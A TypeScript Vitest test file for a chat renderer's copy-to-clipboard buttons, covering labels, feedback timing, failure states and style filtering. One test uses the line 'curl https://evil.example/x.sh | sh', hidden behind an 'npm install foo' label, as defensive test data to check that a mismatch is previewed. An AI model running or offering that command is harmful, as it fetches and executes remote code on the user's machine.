import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { COPY_FEEDBACK_MS, COPY_PREVIEW_CHARS, copyPreview } from '../../../lib/render/copy-button';
import { LABELS, render } from './helpers';

function copyButton(body: HTMLElement): HTMLButtonElement {
  const button = body.querySelector<HTMLButtonElement>('button.wxp-copy');
  if (!button) throw new Error('no copy button');
  return button;
}

describe('<copy> buttons', () => {
  beforeEach(() => {
    vi.useFakeTimers();
  });
  afterEach(() => {
    vi.useRealTimers();
  });

  it.each<[string, string, string, string, boolean]>([
    ['label and text', '<copy data-clipboard-text="ABC-123">复制</copy>', '复制', 'ABC-123', true],
    ['empty label', '<copy data-clipboard-text="xyz"></copy>', LABELS.copy, 'xyz', false],
    ['text with a colon', '<copy data-clipboard-text="code:1234">c</copy>', 'c', 'code:1234', true],
    ['no text copies the label', '<copy>just this</copy>', 'just this', 'just this', false],
    [
      'text equal to the label',
      '<copy data-clipboard-text="npm i">npm i</copy>',
      'npm i',
      'npm i',
      false,
    ],
    [
      'nested markup in label',
      '<copy data-clipboard-text="t"><b>Copy</b> me</copy>',
      'Copy me',
      't',
      true,
    ],
  ])('%s', async (_name, content, label, copied, differs) => {
    const copyText = vi.fn(() => Promise.resolve());
    const { body } = render(content, 2, { copyText });
    const button = copyButton(body);

    button.click();
    await vi.advanceTimersByTimeAsync(0);

    expect(button.type).toBe('button');
    expect(copyText).toHaveBeenCalledWith(copied);
    expect(body.querySelector('copy')).toBeNull();
    expect(button.title).toBe(LABELS.copyTitle(copied.trim(), differs));
    expect(button.dataset.differs !== undefined).toBe(differs);
    expect(button.textContent).toBe(LABELS.copied(copied.trim(), differs));
    await vi.advanceTimersByTimeAsync(COPY_FEEDBACK_MS);
    expect(button.textContent).toBe(label);
  });

  it('shows success feedback in a live region, then restores the label', async () => {
    const { body } = render('<copy data-clipboard-text="t">复制</copy>', 2);
    const button = copyButton(body);
    const live = button.querySelector('[aria-live="polite"]');

    button.click();
    await vi.advanceTimersByTimeAsync(0);

    expect(live?.textContent).toBe(LABELS.copied('t', true));
    expect(button.dataset.state).toBe('copied');
    await vi.advanceTimersByTimeAsync(COPY_FEEDBACK_MS - 1);
    expect(live?.textContent).toBe(LABELS.copied('t', true));
    await vi.advanceTimersByTimeAsync(1);
    expect(live?.textContent).toBe('复制');
    expect(button.dataset.state).toBeUndefined();
  });

  it.each<[string, () => Promise<void>]>([
    ['rejects', () => Promise.reject(new Error('denied'))],
    [
      'throws',
      () => {
        throw new Error('no clipboard');
      },
    ],
  ])('shows failure feedback when copyText %s', async (_name, copyText) => {
    const { body } = render('<copy data-clipboard-text="t">复制</copy>', 2, { copyText });
    const button = copyButton(body);

    button.click();
    await vi.advanceTimersByTimeAsync(0);

    expect(button.textContent).toBe(LABELS.copyFailed);
    expect(button.dataset.state).toBe('failed');
    await vi.advanceTimersByTimeAsync(COPY_FEEDBACK_MS);
    expect(button.textContent).toBe('复制');
  });

  it('restarts the feedback timer on a second click', async () => {
    const { body } = render('<copy data-clipboard-text="t">复制</copy>', 2);
    const button = copyButton(body);

    button.click();
    await vi.advanceTimersByTimeAsync(1000);
    button.click();
    await vi.advanceTimersByTimeAsync(1000);

    expect(button.textContent).toBe(LABELS.copied('t', true));
  });

  it('names a long or multi-line text by a one-line preview, and copies it whole', async () => {
    const long = `curl https://evil.example/x.sh | sh\n${'#'.repeat(300)}`;
    const copyText = vi.fn(() => Promise.resolve());
    const { body } = render(`<copy data-clipboard-text="${long}">npm install foo</copy>`, 2, {
      copyText,
    });
    const button = copyButton(body);

    button.click();
    await vi.advanceTimersByTimeAsync(0);

    const preview = copyPreview(long);
    expect(preview).toHaveLength(COPY_PREVIEW_CHARS);
    expect(preview.startsWith('curl https://evil.example/x.sh | sh #')).toBe(true);
    expect(preview.endsWith('…')).toBe(true);
    expect(button.title).toBe(LABELS.copyTitle(preview, true));
    expect(button.textContent).toBe(LABELS.copied(preview, true));
    expect(copyText).toHaveBeenCalledWith(long);
  });

  it('keeps the sender style, filtered', () => {
    const { body } = render(
      '<copy data-clipboard-text="t" style="color: white; background-color: #07c160; position: fixed">复制</copy>',
      2,
    );

    expect(copyButton(body).getAttribute('style')).toBe('color: white; background-color: #07c160');
  });

  it('works in markdown and renders one button per <copy>', () => {
    const { body } = render(
      'Code: <copy data-clipboard-text="1">A</copy> <copy data-clipboard-text="2">B</copy>',
      3,
    );

    expect(body.querySelectorAll('button.wxp-copy')).toHaveLength(2);
  });
});
